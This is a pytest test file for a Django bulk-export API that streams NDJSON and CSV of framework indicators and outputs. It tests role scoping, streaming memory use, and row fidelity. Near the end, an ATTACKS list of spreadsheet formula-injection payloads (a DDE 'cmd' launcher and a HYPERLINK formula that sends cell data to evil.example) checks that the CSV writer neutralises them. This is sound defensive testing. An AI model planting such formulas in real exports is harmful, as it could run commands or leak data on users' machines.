"""The bulk export: streamed NDJSON and CSV of every framework item, scoped like the screens."""

import csv
import datetime
import io
import json
import tracemalloc

import pytest
from django.db import connection
from django.db.models import F
from django.test.utils import CaptureQueriesContext

from indicators import rules
from indicators.api.selectors import figures_prefetch
from indicators.models import Indicator, IndicatorFigure, Output
from rbb.api import export
from rbb.api.formats import plain_decimal
from rbb.lib.cells import neutralise
from tests.foundation.builders import add_framework, make_report

pytestmark = pytest.mark.django_db


def _body(response) -> bytes:
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content)


def _ndjson(response) -> list[dict]:
    return [json.loads(line) for line in _body(response).decode("utf-8").splitlines()]


def test_ndjson_has_every_item_with_plan_and_actual(world):
    rows = _ndjson(world.client("reviewer").get("/api/v1/export/?period=2020/21&format=ndjson"))
    assert len(rows) == Indicator.objects.count() + Output.objects.count()
    unmik = [r for r in rows if r["mission"] == "UNMIK"]
    assert sum(r["item_type"] == "indicator" for r in unmik) == 17
    assert sum(r["item_type"] == "output" for r in unmik) == 59
    first = next(r for r in unmik if r["number"] == "1.1.1")
    assert first["period"] == "2020/21" and first["unit_number"] == "1" and first["accomplishment_number"] == "1.1"
    assert first["baselines"][0] == {"period": "2018/19", "printed": "574", "value": "574", "not_applicable": False}
    assert (first["target"], first["target_value"], first["actual"], first["actual_value"]) == ("290", "290", "860", "860")
    assert first["flags"] == ["target_exceeded"] and first["needs_explanation"] is False
    hq = next(r for r in rows if r["mission"] == "SUPPORT" and r["item_type"] == "output" and r["completed"] == "77")
    assert (hq["planned_value"], hq["completed_value"], hq["delivery_ratio"]) == ("100", "77", "77.0")
    # Indicators first, then outputs; each in document order.
    kinds = [r["item_type"] for r in rows]
    assert kinds == sorted(kinds)


def test_csv_has_a_header_and_one_row_per_item_and_a_bom_on_request(world):
    client = world.client("focal")
    plain = _body(client.get("/api/v1/export/?period=2020/21&mission=UNMIK&format=csv"))
    assert not plain.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(plain.decode("utf-8"))))
    assert len(rows) == 17 + 59 and list(rows[0]) == export.COLUMNS
    first = rows[0]
    assert first["baselines"] == "2018/19: 574; 2019/20: 754"
    assert "科索沃" in first["accomplishment_text"]
    with_bom = _body(client.get("/api/v1/export/?period=2020/21&mission=UNMIK&format=csv&bom=true"))
    assert with_bom.startswith(b"\xef\xbb\xbf") and with_bom[3:] == plain


def test_the_download_is_named_and_typed(world):
    response = world.client("focal").get("/api/v1/export/?period=2020/21&mission=UNMIK&format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="rbb-UNMIK-2020-21.csv"'
    ndjson = world.client("focal").get("/api/v1/export/?period=2020/21")
    assert ndjson["Content-Type"] == "application/x-ndjson; charset=utf-8"


@pytest.mark.parametrize("persona, missions", [
    ("reviewer", {"UNMIK", "SUPPORT", "OTHER"}),
    ("admin", {"UNMIK", "SUPPORT", "OTHER"}),
    ("viewer", {"UNMIK", "SUPPORT", "OTHER"}),
    ("focal", {"UNMIK"}),
    ("unmik_viewer", {"UNMIK"}),
    ("other_focal", {"OTHER"}),
    ("outsider", set()),
])
def test_the_export_is_scoped_to_the_missions_the_role_sees(world, persona, missions):
    rows = _ndjson(world.client(persona).get("/api/v1/export/?period=2020/21"))
    assert {r["mission"] for r in rows} == missions


def test_filters_by_report_type(world):
    rows = _ndjson(world.client("reviewer").get("/api/v1/export/?period=2020/21&report_type=support-account"))
    assert rows and {r["mission"] for r in rows} == {"SUPPORT"}


def test_another_missions_export_is_not_found(world):
    response = world.client("focal").get("/api/v1/export/?period=2020/21&mission=OTHER")
    assert response.status_code == 404 and response.json()["code"] == "not_found"


@pytest.mark.parametrize("query, status, field", [
    ("", 400, "period"),
    ("?period=2020/21&format=xlsx", 400, "format"),
    ("?period=2020/21&bom=perhaps", 400, "bom"),
    ("?period=" + "9" * 30, 400, "period"),
    ("?period=1999/00", 404, None),
])
def test_bad_queries(world, query, status, field):
    response = world.client("reviewer").get("/api/v1/export/" + query)
    assert response.status_code == status
    if field:
        assert field in response.json()["extra"]["fields"]


def _stream(client, url) -> tuple[int, int, int]:
    """Lines, queries and peak traced memory of consuming one streamed export."""
    response = client.get(url)
    tracemalloc.start()
    lines = 0
    with CaptureQueriesContext(connection) as ctx:
        for chunk in response.streaming_content:
            lines += chunk.count(b"\n")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return lines, len(ctx.captured_queries), peak


def test_memory_and_queries_stay_flat_while_streaming(world):
    """Rows are read in chunks: five times the rows, neither more queries nor more memory."""
    small = make_report(code="SMALL", period="2020/21")
    add_framework(small, units=1, eas_per_unit=4, indicators_per_ea=10, outputs_per_ea=20)
    big = make_report(code="BIG", period="2020/21")
    add_framework(big, units=5, eas_per_unit=4, indicators_per_ea=10, outputs_per_ea=20)
    client = world.client("reviewer")
    original = export.CHUNK_SIZE
    export.CHUNK_SIZE = 40
    try:
        _stream(client, "/api/v1/export/?period=2020/21&mission=SMALL")  # warm caches
        small_lines, small_queries, small_peak = _stream(client, "/api/v1/export/?period=2020/21&mission=SMALL")
        big_lines, big_queries, big_peak = _stream(client, "/api/v1/export/?period=2020/21&mission=BIG")
    finally:
        export.CHUNK_SIZE = original
    assert (small_lines, big_lines) == (40 + 80, 200 + 400)
    # The savepoint around the export and its release; the accomplishments and the reports,
    # once; one cursor each over the figures, the indicators and the outputs, read in chunks.
    assert (small_queries, big_queries) == (2 + 2 + 3, 2 + 2 + 3)
    assert big_peak < small_peak * 1.5, (small_peak, big_peak)


# --- the rows, against the same rows read through the models -------------------------------------
# The export reads tuples and writes JSON by hand for speed; this is the plain way (model instances,
# prefetched figures, the rules, json.dumps) that it must match byte for byte.


def _expected_row(item, item_type: str) -> dict:
    ea = item.accomplishment
    unit = item.unit if item_type == "output" else ea.unit  # a headquarters unit's own output has no ea
    report = unit.report
    row = {
        "item_type": item_type, "id": item.pk, "mission": report.mission.code, "period": report.period.label,
        "report_id": report.pk, "report_type": report.report_type.code, "report_status": report.status,
        "unit_number": unit.number, "unit_title": unit.title,
        "accomplishment_number": ea.number if ea else "", "accomplishment_text": ea.text if ea else "", "number": item.number,
        "heading": "", "text": "", "measure": "", "unit_hint": "", "direction": "", "baselines": [],
        "target": "", "target_value": None, "estimate": "", "estimate_value": None,
        "actual": "", "actual_value": None, "actual_narrative": "", "variance_explanation": "",
        "planned_quantity": "", "planned_value": None, "completed_kind": "", "completed": "", "completed_value": None,
        "remarks": "", "delivery_ratio": None,
    }
    if item_type == "indicator":
        figures = list(item.figures.all())
        by_kind = {f.kind: f for f in figures}
        target, estimate = by_kind.get(IndicatorFigure.Kind.TARGET), by_kind.get(IndicatorFigure.Kind.ESTIMATE)
        state = rules.indicator_state(item, tolerance_percent=report.tolerance_percent)
        row.update(
            text=item.statement, measure=item.measure, unit_hint=item.unit_hint, direction=item.direction,
            baselines=[
                {"period": f.period_label, "printed": f.printed, "value": plain_decimal(f.value), "not_applicable": f.not_applicable}
                for f in figures if f.kind == IndicatorFigure.Kind.BASELINE
            ],
            target=target.printed if target else "", target_value=plain_decimal(target.value) if target else None,
            estimate=estimate.printed if estimate else "", estimate_value=plain_decimal(estimate.value) if estimate else None,
            actual=item.actual, actual_value=plain_decimal(item.actual_value),
            actual_narrative=item.actual_narrative, variance_explanation=item.variance_explanation,
        )
    else:
        state = rules.output_state(item, **rules.report_rule_options(report))
        ratio = rules.output_delivery_ratio(item)
        row.update(
            heading=item.heading, text=item.planned_text,
            planned_quantity=item.planned_quantity, planned_value=plain_decimal(item.planned_value),
            completed_kind=item.completed_kind, completed=item.completed, completed_value=plain_decimal(item.completed_value),
            remarks=item.remarks, delivery_ratio=None if ratio is None else str(ratio),
        )
    row.update(
        flags=[flag.code for flag in state.flags], needs_explanation=state.needs_explanation,
        version=item.version, updated_at=item.updated_at.isoformat(),
    )
    return row


def _expected_rows(**scope) -> list[dict]:
    related = ("accomplishment__unit__report__mission", "accomplishment__unit__report__period",
               "accomplishment__unit__report__report_type")
    indicators = export.export_indicators(**scope).select_related(*related).prefetch_related(figures_prefetch())
    outputs = export.export_outputs(**scope).select_related(
        "unit__report__mission", "unit__report__period", "unit__report__report_type", "accomplishment",
    )
    return [_expected_row(i, "indicator") for i in indicators] + [_expected_row(o, "output") for o in outputs]


def _awkward_values(world) -> None:
    """Text JSON must escape, timestamps whose microseconds print short or not at all, and
    indicators whose document order is not the order of their ids (the figures must follow)."""
    awkward = 'He said "yes"\\no\ttab\nline\x1f \u2028 </script> 😀 不适用'
    first, second, third = Output.objects.filter(accomplishment__unit__report=world.unmik).order_by("id")[:3]
    Output.objects.filter(pk=first.pk).update(remarks=awkward, heading=awkward)
    Output.objects.filter(pk=second.pk).update(updated_at=datetime.datetime(2021, 3, 4, 10, 20, 30, tzinfo=datetime.UTC))
    Output.objects.filter(pk=third.pk).update(updated_at=datetime.datetime(2021, 3, 4, 10, 20, 30, 120000, tzinfo=datetime.UTC))
    indicator = Indicator.objects.filter(accomplishment__unit__report=world.unmik).order_by("id").first()
    Indicator.objects.filter(pk=indicator.pk).update(actual_narrative=awkward, variance_explanation=awkward)
    Indicator.objects.filter(accomplishment=indicator.accomplishment).update(order=100 - F("order"))


def test_ndjson_rows_are_the_rows_read_through_the_models(world):
    _awkward_values(world)
    expected = _expected_rows(user=world.users["reviewer"], period="2020/21")
    assert {r["mission"] for r in expected} == {"UNMIK", "SUPPORT", "OTHER"}
    assert any(r["flags"] for r in expected) and any(r["delivery_ratio"] for r in expected)
    assert any(r["baselines"] for r in expected) and any(r["estimate"] for r in expected)
    body = _body(world.client("reviewer").get("/api/v1/export/?period=2020/21"))
    lines = body.decode("utf-8").split("\n")
    assert lines.pop() == ""
    assert len(lines) == len(expected)
    for line, row in zip(lines, expected):
        assert line == json.dumps(row, ensure_ascii=False, separators=(",", ":")), row["id"]


def test_csv_rows_are_the_rows_read_through_the_models(world):
    _awkward_values(world)
    expected = _expected_rows(user=world.users["focal"], period="2020/21")
    assert {r["mission"] for r in expected} == {"UNMIK"}
    body = _body(world.client("focal").get("/api/v1/export/?period=2020/21&format=csv"))
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(export.COLUMNS)
    for row in expected:
        writer.writerow([
            neutralise(export._csv_cell(row[column])) if column in export.FREE_TEXT_COLUMNS else export._csv_cell(row[column])
            for column in export.COLUMNS
        ])
    assert body.decode("utf-8") == out.getvalue()


ATTACKS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_neutralises_formulas_in_free_text_and_ndjson_keeps_them_exact(world, attack):
    """A remark or narrative a spreadsheet would run comes out of the CSV as text (a leading `'`);
    NDJSON carries the text as typed."""
    output = Output.objects.filter(accomplishment__unit__report=world.unmik).order_by("id").first()
    Output.objects.filter(pk=output.pk).update(remarks=attack, heading=attack)
    indicator = Indicator.objects.filter(accomplishment__unit__report=world.unmik).order_by("id").first()
    Indicator.objects.filter(pk=indicator.pk).update(actual_narrative=attack, actual=attack)
    client = world.client("focal")
    rows = list(csv.DictReader(io.StringIO(_body(client.get("/api/v1/export/?period=2020/21&format=csv")).decode("utf-8"))))
    by_id = {(r["item_type"], r["id"]): r for r in rows}
    out, ind = by_id[("output", str(output.pk))], by_id[("indicator", str(indicator.pk))]
    assert (out["remarks"], out["heading"]) == ("'" + attack, "'" + attack)
    assert (ind["actual_narrative"], ind["actual"]) == ("'" + attack, "'" + attack)
    # No cell of the file starts with a formula trigger.
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r" and not cell[1:].replace(".", "").isdigit()]
    ndjson = {(r["item_type"], r["id"]): r for r in _ndjson(client.get("/api/v1/export/?period=2020/21&format=ndjson"))}
    assert ndjson[("output", output.pk)]["remarks"] == attack
    assert ndjson[("indicator", indicator.pk)]["actual_narrative"] == attack


def test_a_figure_read_out_of_order_stops_the_export():
    """The figures follow the indicators' order; a figure left over means they did not."""
    indicators = [(1,) + ("",) * 12, (2,) + ("",) * 12]
    figures = [(2, "target", "", "1", None, False), (1, "target", "", "1", None, False)]
    with pytest.raises(RuntimeError):
        list(export._with_figures(iter(indicators), iter(figures)))
